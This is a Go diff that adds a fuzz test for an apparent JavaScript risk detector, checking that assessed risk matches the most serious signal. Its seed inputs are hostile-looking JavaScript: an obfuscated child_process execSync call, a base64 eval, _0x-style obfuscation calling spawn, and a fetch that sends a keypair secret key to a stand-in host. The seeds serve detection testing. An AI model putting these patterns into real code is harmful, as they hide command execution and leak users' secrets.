@@ -75,3 +75,34 @@ func TestRiskRollUp(t *testing.T) {
 		t.Error("AtLeast")
 	}
 }
+
+// FuzzAssess feeds arbitrary text as a changed JavaScript file through
+// every detector, folding included: nothing may panic, and the risk is
+// never lower than the most serious signal.
+func FuzzAssess(f *testing.F) {
+	for _, seed := range []string{
+		"const r = globalThis['re' + 'quire']; r(['chi','ld_pro','cess'].join('')).execSync('id');",
+		"eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());",
+		"function _0x1(){return ['a','b'];} function _0x2(i){return _0x1()[i];} spawn(_0x2(0x0));",
+		"fetch('https://x.example.invalid', {headers: {k: keypair.secretKey}});",
+		"`${'a' + 'b'}` /re/g // https://a.example.invalid\n\u200b",
+	} {
+		f.Add(seed)
+	}
+	f.Fuzz(func(t *testing.T, src string) {
+		r := assess(t, ctBase, ctWith(map[string]string{"index.js": src, "lib/new.js": src}))
+		top := RiskNone
+		for _, s := range r.Signals {
+			if s.Severity == High {
+				top = RiskHigh
+			} else if s.Severity == Medium && top != RiskHigh {
+				top = RiskMedium
+			} else if top == RiskNone {
+				top = RiskLow
+			}
+		}
+		if top != r.Risk.Level {
+			t.Fatalf("risk %s, highest signal %s", r.Risk.Level, top)
+		}
+	})
+}
